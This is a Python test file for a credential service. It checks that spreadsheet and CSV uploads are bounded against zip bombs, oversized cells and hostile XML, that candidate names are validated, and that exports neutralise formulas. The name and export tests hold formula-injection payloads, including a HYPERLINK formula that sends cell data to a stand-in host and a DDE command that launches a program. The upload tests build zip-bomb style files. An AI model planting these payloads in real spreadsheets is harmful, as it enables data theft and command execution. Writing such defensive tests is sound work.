"""Uploads are bounded by work, not bytes (issue 10): every SheetLimits check, the one CSV reader,
the one name rule, and exports that spreadsheets cannot run as formulas. Pure: no database."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from credential_service.assessment.workflow.errors import SheetError
from credential_service.assessment.workflow.results.sheet import (
    LIMITS,
    SheetLimits,
    as_text,
    read_csv,
    read_sheet,
    read_xlsx,
    rows_as_csv,
    rows_as_xlsx,
)
from credential_service.core.csv_input import csv_rows
from credential_service.core.errors import InvalidInput
from credential_service.identity.rules import MAX_NAME_CHARS, name_problem
from tests.hostile_files import (
    HEADER,
    MAIN,
    candidate,
    crafted_dimension_xlsx,
    huge_cell_xlsx,
    shared_string_chunks,
    sheet_xml,
    workbook,
)
from tests.unit.test_result_sheets import A, B, _check

ROW = candidate(A, "王伟")


def refused(limit: str, stream: bytes, limits: SheetLimits = LIMITS) -> SheetError:
    """The sheet is refused, naming ``limit``. Where it stopped shows the work is bounded (the
    callers check the row named); no test times anything, a busy machine made this one take 4 s."""
    with pytest.raises(SheetError) as caught:
        read_sheet(io.BytesIO(stream), limits)
    assert limit in caught.value.message and caught.value.status == 422
    return caught.value


def test_the_crafted_sheet_is_refused_on_its_declared_dimension() -> None:
    assert refused("max_rows", crafted_dimension_xlsx(A)).errors[0].loc == "file"
    wide = workbook(sheet_xml({1: HEADER, 2: ROW}, dimension="A1:Z3"))
    refused("max_columns", wide)


@pytest.mark.parametrize("dimension", [None, "A1:E3"], ids=["no dimension", "lying dimension"])
def test_rows_and_columns_are_counted_when_the_dimension_is_missing_or_lies(dimension: str | None) -> None:
    far = workbook(sheet_xml({1: HEADER, 2: ROW, 300_000: ROW}, dimension=dimension))
    assert refused("max_rows", far).errors[0].loc == "row 20002"
    far_right = workbook(sheet_xml({1: HEADER, 2: (*ROW, *[""] * 11, "x")}, dimension=dimension))
    assert refused("max_columns", far_right).errors[0].loc == "row 2"
    # Blank columns beyond the template, and a value in the last allowed one, are fine.
    fine = workbook(sheet_xml({1: HEADER, 2: (*ROW, *[""] * 10, "备注")}, dimension=dimension))
    assert [r.values["name"] for r in read_sheet(io.BytesIO(fine))[1]] == ["王伟"]


def test_cells_are_bounded_in_size_and_number() -> None:
    long_name = workbook(sheet_xml({1: HEADER, 2: candidate(A, "王" * 201)}))
    assert refused("max_cell_chars", long_name).errors[0].loc == "row 2"
    assert refused("max_cell_chars", huge_cell_xlsx(A, chars=300)).errors[0].loc == "row 2"
    three_rows = workbook(sheet_xml({1: HEADER, 2: ROW, 3: candidate(B, "李娜"), 4: ROW}))
    assert refused("max_cells", three_rows, SheetLimits(max_cells=12)).errors[0].loc == "row 4"
    assert len(read_sheet(io.BytesIO(three_rows), SheetLimits(max_cells=15))[1]) == 3


def test_the_zip_container_is_checked_before_openpyxl_reads_it() -> None:
    # 400 MiB of one shared string, 0.4 MB compressed: refused on its declared size, at once.
    huge = huge_cell_xlsx(A)
    assert len(huge) < 500_000
    refused("max_shared_strings_bytes", huge)
    plain = workbook(sheet_xml({1: HEADER, 2: ROW}))
    refused("max_zip_entries", workbook(sheet_xml({1: HEADER, 2: ROW}), extra_parts=70))
    refused("max_worksheet_bytes", plain, SheetLimits(max_worksheet_bytes=100))
    refused("max_other_part_bytes", plain, SheetLimits(max_other_part_bytes=100))
    refused("max_xlsx_bytes", plain, SheetLimits(max_xlsx_bytes=1_000))
    bomb = huge_cell_xlsx(A, chars=3 * 2**20)  # within the shared-strings bound, but 1,000:1
    refused("max_compression_ratio", bomb)
    # A part renamed away from xl/sharedStrings.xml gets the tighter bound of any other part.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/strings.xml", b"".join(shared_string_chunks(2 * 2**20)))
    refused("max_other_part_bytes", out.getvalue())


def _with_row(cells_xml: str, prefix: str = "") -> bytes:
    """A sheet with the header and one hand-written row of XML (the second hostile round's files)."""
    header = sheet_xml({1: HEADER}).split("<sheetData>")[1].split("</sheetData>")[0]
    rows = f'{header}<row r="2">{cells_xml}</row>'
    return workbook(f'{prefix}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>')


@pytest.mark.parametrize(
    ("limit", "cells_xml", "prefix"),
    [
        ("max_row_cells", "<c/>" * 300, ""),  # 2.6 M of these took 2.7 GB inside openpyxl
        ("max_xml_depth", '<c r="A2" t="inlineStr"><is><t>' + "<x>" * 30 + "</x>" * 30 + "</t></is></c>", ""),
        ("max_markup_gap_bytes", '<c r="A2" ' + " ".join(f'a{i}=">"' for i in range(20_000)) + "/>", ""),
        ("max_markup_gap_bytes", '<c r="A2" t="inlineStr"><is><t>' + "x" * 70_000 + "</t></is></c>", ""),
        ("DTD", "<c/>", '<!DOCTYPE worksheet [<!ENTITY a "b">]>'),
        ("comment", "<!-- a>a -->", ""),
        ("CDATA", '<c r="A2" t="inlineStr"><is><t><![CDATA[x]]></t></is></c>', ""),
    ],
)
def test_the_xml_is_bounded_before_openpyxl_reads_it(limit: str, cells_xml: str, prefix: str) -> None:
    refused(limit, _with_row(cells_xml, prefix))


def test_every_xml_part_is_scanned_whatever_its_name() -> None:
    """A worksheet may be called anything (the workbook's relationships name it): every part but
    pictures and printer settings goes through the scan."""
    out = io.BytesIO(workbook(sheet_xml({1: HEADER, 2: ROW})))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(
            "xl/foo.xml",
            f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{"<c/>" * 300}</row></sheetData></worksheet>',
        )
        archive.writestr("xl/printerSettings/printerSettings1.bin", b"\x00\x01 not xml")
    refused("max_row_cells", out.getvalue())


def test_a_real_sheet_of_20000_candidates_is_within_every_limit() -> None:
    rows = {1: HEADER, **{n: candidate(A, "欧阳" + "明" * (n % 3)) for n in range(2, 20_002)}}
    sheet = workbook(sheet_xml(rows, dimension="A1:E20001"))
    source, read = read_sheet(io.BytesIO(sheet))
    assert source == "xlsx" and len(read) == 20_000 and read[-1].row_number == 20_001
    text = "\n".join(",".join(row) for row in rows.values()).encode()
    assert len(read_sheet(io.BytesIO(text))[1]) == 20_000


# --- CSV: one reader for every CSV input --------------------------------------------------------------

LINES = ("证书编号,姓名", "S0000140100010242600123,王伟", "S0000140100010242600124,李娜")
VARIANTS = {
    "LF": "\n".join(LINES).encode(),
    "CRLF": "\r\n".join(LINES).encode(),
    "CR": "\r".join(LINES).encode(),  # Excel for Mac
    "BOM": b"\xef\xbb\xbf" + "\r\n".join(LINES).encode(),
    "GBK": "\r\n".join(LINES).encode("gbk"),  # older Chinese Excel
}


@pytest.mark.parametrize("variant", VARIANTS)
def test_csv_line_ends_bom_and_gbk_read_the_same(variant: str) -> None:
    rows = list(csv_rows(io.BytesIO(VARIANTS[variant]), max_columns=4, max_cell_chars=40))
    assert rows == [(n, line.split(",")) for n, line in enumerate(LINES, start=1)]


@pytest.mark.parametrize(
    ("content", "loc", "reason"),
    [
        (b"a,b\n" + b"x" * 131_073 + b",y\n", "row 2", "a line longer"),  # past csv's own field limit
        (b"a,b\nx," + b"y" * 41 + b"\n", "row 2", "a cell longer than 40"),
        (b'a,b\n"x' + b"y" * 100 + b"\n", "row 2", "a cell longer than 40"),  # an unclosed quote
        (b"a,b\n1,2,3,4,5\n", "row 2", "more than 4 columns"),
        # Text is decoded a buffer at a time: the row named is the first not yet read.
        ("a,b\n中文,".encode() + b"\xff\xfe\n", "row 1", "UTF-8 or GB 18030"),
    ],
    ids=["oversized field", "long cell", "unclosed quote", "too many columns", "bad bytes"],
)
def test_csv_refusals_name_the_row(content: bytes, loc: str, reason: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        list(csv_rows(io.BytesIO(content), max_columns=4, max_cell_chars=40))
    assert caught.value.status == 422 and caught.value.errors[0].loc == loc
    assert reason in caught.value.errors[0].reason


def test_result_sheet_csv_with_cr_line_ends_and_an_oversized_field() -> None:
    header = "证件类型,证件号码,姓名,理论知识成绩,技能操作成绩"
    cr = f"{header}\r居民身份证,{A},王伟,80,85\r".encode()
    assert [r.values["name"] for r in read_csv(io.BytesIO(cr))] == ["王伟"]
    oversized = f"{header}\n居民身份证,{A},{'王' * 131_073},80,85\n".encode()
    with pytest.raises(InvalidInput) as caught:
        list(read_csv(io.BytesIO(oversized)))
    assert caught.value.errors[0].loc == "row 2"


# --- names: one rule for every format ----------------------------------------------------------------


@pytest.mark.parametrize("name", ["王伟", "买买提·艾力", "欧阳" + "明" * 48, "JOHN O'NEIL-SMITH", "\ue000三"])
def test_names_that_are_names(name: str) -> None:
    assert name_problem(name) is None


@pytest.mark.parametrize(
    "name",
    ["", "王\x00伟", "王\t伟", "王\r\n伟", "王\u200b伟", "\u202e伟王", "王\u2028伟",
     "王" * (MAX_NAME_CHARS + 1), '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0",
     "+1", "-1", "@SUM(A1)"],
)  # fmt: skip
def test_names_that_are_not(name: str) -> None:
    assert name_problem(name) is not None


def test_bad_names_are_refused_by_row_in_a_sheet() -> None:
    checked = _check(
        5,
        f"居民身份证,{A},王\x00伟,80,90,",
        f"居民身份证,{B},{'王' * 51},80,90,",
        f"居民身份证,{A},王伟,80,90,",
    )
    assert [e.loc for e in checked.errors] == ["row 2: 姓名", "row 3: 姓名"]
    assert [r.row_number for r in checked.rows] == [4]


# --- exports: formulas are written as text ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
            "@SUM(A1)", "\t=1", "\r=1"]  # fmt: skip


def test_export_writers_neutralise_formulas_whatever_the_input_rules() -> None:
    assert [as_text(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert as_text("王伟") == "王伟" and as_text(85) == "85"
    assert as_text("--") == "--" and as_text("--1") == "'--1"  # the printed "no 工种" stays as printed
    csv_text = rows_as_csv(["姓名", "x"], [[v, "ok"] for v in FORMULAS]).decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(csv_text, newline=""))][1:] == [
        "'" + v for v in FORMULAS
    ]
    workbook_bytes = rows_as_xlsx(["姓名"], [[v] for v in FORMULAS])
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(workbook_bytes)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}


def test_read_xlsx_streams_rows() -> None:
    rows = read_xlsx(io.BytesIO(workbook(sheet_xml({1: HEADER, 2: ROW, 3: candidate(B, "李娜")}))))
    assert [r.values["name"] for r in rows] == ["王伟", "李娜"]


def test_training_records_apply_the_same_name_rule() -> None:
    from pydantic import ValidationError

    from credential_service.records.training.schemas import Trainee

    given = {"document_type": "resident_id", "id_number": A}
    assert Trainee.model_validate({**given, "name": " 王伟 "}).name == "王伟"
    for name in ("王\x00伟", "王" * 51, "=cmd|' /C calc'!A0"):
        with pytest.raises(ValidationError, match="姓名"):
            Trainee.model_validate({**given, "name": name})
